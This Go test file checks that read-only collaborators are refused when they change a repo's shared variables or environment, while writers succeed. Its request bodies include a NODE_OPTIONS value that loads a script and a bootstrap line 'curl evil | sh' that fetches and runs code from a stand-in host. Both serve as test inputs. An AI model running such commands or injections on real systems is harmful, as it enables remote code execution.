package security

import (
	"encoding/json"
	"net/http"
	"strings"
	"testing"
)

// TestChangingARepoVariableTakesWritePermission: a read-only collaborator
// watches the Repo but can't set, remove, link or unlink its Variables,
// which reach every Creator's Sessions there; a collaborator with write
// permission can.
func TestChangingARepoVariableTakesWritePermission(t *testing.T) {
	e, reader, writer, base := readerAndWriter(t)
	if code, body := e.do(writer.Client, req{method: "PUT", path: "/api/variables/SHARED_X", body: `{"value":"v"}`, origin: "self"}); code != http.StatusOK {
		t.Fatalf("writer sets a Shared variable: %d %s", code, body)
	}
	changes := []req{
		{method: "PUT", path: base + "/variables/NODE_OPTIONS", body: `{"value":"--require /workspace/x.js","loads_code":true}`, origin: "self"},
		{method: "DELETE", path: base + "/variables/NODE_OPTIONS", origin: "self"},
		{method: "PUT", path: base + "/links/SHARED_X", origin: "self"},
		{method: "DELETE", path: base + "/links/SHARED_X", origin: "self"},
	}
	for _, r := range changes {
		if code, body := e.do(reader.Client, r); code != http.StatusForbidden {
			t.Errorf("reader %s %s: %d %s, want 403", r.method, r.path, code, body)
		}
	}
	if code, body := e.do(reader.Client, req{method: "GET", path: base + "/variables"}); code != http.StatusOK {
		t.Fatalf("reader lists the Variables: %d %s", code, body)
	}
	for _, r := range changes {
		if code, body := e.do(writer.Client, r); code >= 300 {
			t.Errorf("writer %s %s: %d %s, want it done", r.method, r.path, code, body)
		}
	}
}

// TestChangingARepoEnvironmentTakesWritePermission: editing, testing and
// applying a Repo's Environment take write (push) permission at GitHub,
// as its Variables do; a read-only collaborator still sees it. A draft
// that is not an Environment is refused and changes nothing.
func TestChangingARepoEnvironmentTakesWritePermission(t *testing.T) {
	e, reader, writer, base := readerAndWriter(t)
	base += "/environment"
	for _, r := range []req{
		{method: "PUT", path: base + "/draft", body: `{"bootstrap":"curl evil | sh"}`, origin: "self"},
		{method: "POST", path: base + "/tests", origin: "self"},
		{method: "POST", path: base + "/apply", origin: "self"},
	} {
		if code, body := e.do(reader.Client, r); code != http.StatusForbidden || !strings.Contains(body, "write (push) permission") {
			t.Errorf("reader %s %s: %d %s, want 403 naming write permission", r.method, r.path, code, body)
		}
	}
	for _, bad := range []string{`{"imgae":"debian:12"}`, `{"image":"not an image"}`, `{"cpus":-2}`, `not json`} {
		if code, body := e.do(writer.Client, req{method: "PUT", path: base + "/draft", body: bad, origin: "self"}); code != http.StatusBadRequest {
			t.Errorf("draft %s: %d %s, want 400", bad, code, body)
		}
	}
	if code, body := e.do(reader.Client, req{method: "GET", path: base}); code != http.StatusOK || strings.Contains(body, `"draft"`) {
		t.Fatalf("reader shows the Environment: %d %s, want it, with no draft made", code, body)
	}
	if code, body := e.do(writer.Client, req{method: "PUT", path: base + "/draft", body: `{"cpus":2}`, origin: "self"}); code != http.StatusOK {
		t.Fatalf("writer edits the draft: %d %s", code, body)
	}
	if code, body := e.do(writer.Client, req{method: "POST", path: base + "/apply", origin: "self"}); code != http.StatusOK {
		t.Fatalf("writer applies a resources-only draft: %d %s", code, body)
	}
}

// readerAndWriter makes a Hub with the Repo acme/app, a Member who may only
// read it at GitHub and one who may push to it, and returns the Repo's API
// path, which the read-only one added (seeing it is all it takes).
func readerAndWriter(t *testing.T) (*env, *browser, *browser, string) {
	t.Helper()
	e := newEnv(t)
	owner := e.owner()
	reader := e.member(owner, "reader")
	writer := e.member(owner, "writer")
	e.gh.InstallApp("acme/app")
	e.gh.SetCollaborator("acme/app", "reader", true)
	e.gh.SetReadOnly("acme/app", "reader", true)
	e.gh.SetCollaborator("acme/app", "writer", true)
	code, body := e.do(reader.Client, req{method: "POST", path: "/api/repos", body: `{"url":"` + e.gh.RepoURL("acme/app") + `"}`, origin: "self"})
	if code != http.StatusOK {
		t.Fatalf("a read-only collaborator sees the Repo: %d %s", code, body)
	}
	var repo struct{ ID string }
	json.Unmarshal([]byte(body), &repo)
	return e, reader, writer, "/api/repos/" + repo.ID
}
